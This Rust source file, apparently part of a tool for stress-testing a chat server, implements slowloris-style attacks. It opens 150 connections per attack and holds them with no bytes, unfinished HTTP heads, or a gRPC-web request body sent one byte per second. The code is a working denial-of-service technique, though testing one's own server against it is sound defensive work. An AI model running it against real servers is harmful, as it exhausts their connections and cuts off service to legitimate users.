//! Attacks by incomplete HTTP/1.1 requests.

use std::net::Ipv4Addr;
use std::time::Duration;

use tokio::io::AsyncWriteExt as _;
use tokio::net::TcpStream;
use tokio::task::JoinSet;
use tokio::time::{sleep, timeout};

use super::Target;
use crate::relay::connect;

/// Connections of one attack.
const CONNECTIONS: usize = 150;
/// Time limit of connecting. A server at its limit may delay it.
const CONNECT_TIMEOUT: Duration = Duration::from_millis(500);
/// Pause between two bytes of a slow body.
const BYTE_PAUSE: Duration = Duration::from_secs(1);
/// The head of a call with a long body.
const HEAD: &str = "POST /chat.v1.ChatService/SendMessage HTTP/1.1\r\nhost: localhost\r\n\
                    content-type: application/grpc-web+proto\r\ncontent-length: 100000\r\n";

/// Connections without a byte.
pub(super) async fn connects(target: &Target, source: Ipv4Addr, tasks: &mut JoinSet<()>) {
    begin(target, source, tasks, "", false).await;
}

/// Heads without an end.
pub(super) async fn half_heads(target: &Target, source: Ipv4Addr, tasks: &mut JoinSet<()>) {
    begin(target, source, tasks, HEAD, false).await;
}

/// Whole heads, and a byte of the body each second.
pub(super) async fn slow_bodies(target: &Target, source: Ipv4Addr, tasks: &mut JoinSet<()>) {
    begin(target, source, tasks, &format!("{HEAD}authorization: {}\r\n\r\n", target.authorization), true)
        .await;
}

async fn begin(target: &Target, source: Ipv4Addr, tasks: &mut JoinSet<()>, words: &str, goes_on: bool) {
    for _ in 0..CONNECTIONS {
        let Ok(Ok(mut stream)) = timeout(CONNECT_TIMEOUT, connect(source, target.server)).await else {
            return;
        };
        if stream.write_all(words.as_bytes()).await.is_ok() {
            tasks.spawn(hold(stream, goes_on));
        }
    }
}

async fn hold(mut stream: TcpStream, goes_on: bool) {
    loop {
        sleep(BYTE_PAUSE).await;
        if goes_on && stream.write_all(&[0]).await.is_err() {
            return;
        }
    }
}
